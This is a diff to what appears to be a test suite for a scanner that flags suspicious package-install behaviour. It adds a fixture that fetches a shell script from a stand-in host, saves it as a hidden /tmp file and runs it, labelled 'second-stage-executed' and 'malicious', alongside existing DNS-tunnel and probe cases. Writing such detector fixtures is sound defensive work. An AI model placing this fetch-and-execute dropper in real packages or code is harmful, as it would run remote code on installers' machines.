@@ -158,6 +158,17 @@ for i in range(10):
         pass
 """
 
+SECOND_STAGE = """
+import subprocess, urllib.request
+try:
+    body = urllib.request.urlopen("http://dl.osptrack-test.example.com/update.sh", timeout=10).read()
+    with open("/tmp/.osptrack-imit-update.sh", "wb") as fh:
+        fh.write(body)
+    subprocess.run(["sh", "/tmp/.osptrack-imit-update.sh"], check=False, timeout=20)
+except OSError:
+    pass
+"""
+
 NPM_FETCH = """
 const dns = require("dns");
 dns.lookup("cdn.osptrack-test.example.com", 4, () => {});
@@ -177,6 +188,7 @@ CASES: list[tuple[str, Callable[[Path], tuple[str, Path]], str, str]] = [
     ("wheel-probes", _wheel(PROBES), "sensitive-path-probe", "suspicious"),
     ("wheel-dns-tunnel", _wheel(DNS_TUNNEL), "dns-random-subdomains", "malicious"),
     ("npm-install-fetch", _npm(NPM_FETCH), "install-non-registry-host", "suspicious"),
+    ("sdist-second-stage", _sdist(SECOND_STAGE), "second-stage-executed", "malicious"),
 ]
 
 
